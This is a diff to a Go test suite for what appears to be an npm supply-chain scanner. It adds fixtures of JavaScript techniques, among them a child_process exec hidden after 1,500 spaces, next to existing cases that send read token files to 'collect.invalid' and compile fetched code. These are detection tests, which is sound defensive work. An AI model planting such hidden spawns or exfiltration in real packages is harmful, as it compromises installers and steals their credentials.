@@ -167,6 +167,24 @@ func TestTechniques(t *testing.T) {
 			"const toks = fs.readdirSync(p).map((f) => fs.readFileSync(path.join(p, f), 'utf8'));",
 			"https.request({ hostname: 'collect.invalid', method: 'POST' }).end(JSON.stringify(toks));")},
 
+		// A capability pushed past the edge of the screen on a long line
+		// injected into a readable file (rand-user-agent, chalk/debug).
+		{name: "process spawn on an injected long line", high: true, id: ProcessSpawn, new: ctAppend(
+			"module.exports.v = 2;" + strings.Repeat(" ", 1500) + "require('child_process').exec(String(globalThis.__c));")},
+		{name: "long table line and a spawn elsewhere", new: ctAppend(
+			"const WORDS = ["+strings.Repeat("'alpha', 'bravo', 'charlie', 'delta', ", 40)+"];",
+			"const { execFile } = require('child_process');",
+			"execFile('git', ['rev-parse', 'HEAD']);")},
+
+		// Install-time files: a link in a printed notice is not an address
+		// the code talks to.
+		{name: "install script prints a new link", old: ctWith(map[string]string{
+			"package.json": ttManifest(`,"scripts":{"postinstall":"node notice.js"}`),
+			"notice.js":    "console.log('Thanks for installing fx');\n"}),
+			new: ctWith(map[string]string{
+				"package.json": ttManifest(`,"scripts":{"postinstall":"node notice.js"}`),
+				"notice.js":    "if (!process.env.CI) console.log('fx collects anonymous telemetry. Opt out: https://fx-telemetry.invalid/opt-out');\n"})},
+
 		// Code fetched with an HTTP client module and compiled.
 		{name: "HTTP client response compiled with new Function", high: true, id: DynamicCode, new: ctAppend(
 			"const a = require('axios');",
